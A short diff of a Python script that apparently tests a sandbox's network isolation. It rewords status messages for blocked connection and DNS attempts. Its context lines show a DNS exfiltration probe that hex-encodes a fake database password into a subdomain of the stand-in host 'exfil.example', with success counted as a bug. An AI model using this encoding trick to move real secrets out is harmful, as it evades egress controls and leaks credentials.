@@ -118,7 +118,7 @@ try:
     say("e", "REACHED (this is a bug)")
 except urllib.error.URLError as e:
     results["e"] = "dns" if isinstance(e.reason, socket.gaierror) else f"error {e.reason}"
-    say("e", f"refused before a byte left the host: {e.reason}")
+    say("e", f"no address, so no connection: {e.reason}")
 
 secret = "db-password=hunter2"
 name = secret.encode().hex() + ".exfil.example"
@@ -129,7 +129,7 @@ try:
     say("f", f"RESOLVED to {addr} (this is a bug)")
 except socket.gaierror as e:
     results["f"] = "dns"
-    say("f", f"{e} (the resolver never forwarded the query)")
+    say("f", f"{e} (answered by sluice's resolver; step 9 shows the query never left the host)")
 
 say("g", f"a direct dial to the API server's own address {MOCK_IP}:443, skipping DNS")
 try:
